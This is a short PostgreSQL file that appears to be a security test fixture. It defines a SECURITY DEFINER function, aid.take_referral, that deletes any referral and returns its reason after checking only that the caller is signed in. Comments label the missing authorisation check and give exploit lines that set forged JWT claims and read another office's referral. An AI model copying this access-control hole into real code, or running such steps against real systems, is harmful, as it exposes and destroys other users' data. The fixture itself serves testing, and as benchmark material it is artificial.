-- The hand-over takes office and number from the caller unchecked and gives back the reason of any
-- referral.
-- about: take_referral, referrals
-- as: hf_pleadbridge_app
-- exploit: SET request.jwt.claims = '{"sub": "5a000000-0000-4000-8000-0000000000a1"}';
-- exploit: SELECT aid.take_referral('south', 1) AS reason;
-- shows: Road-secret conflict

-- The receiving office reads and removes the referral in one step.
CREATE FUNCTION aid.take_referral(p_office text, p_no integer) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = aid, pg_temp
AS $$
DECLARE
  v_reason text;
BEGIN
  IF aid.user_id() IS NULL THEN
    RAISE EXCEPTION 'sign in first';
  END IF;
  DELETE FROM referrals WHERE office_id = p_office AND referral_no = p_no RETURNING reason INTO v_reason;
  RETURN v_reason;
END
$$;
REVOKE ALL ON FUNCTION aid.take_referral(text, integer) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION aid.take_referral(text, integer) TO hf_pleadbridge_app;
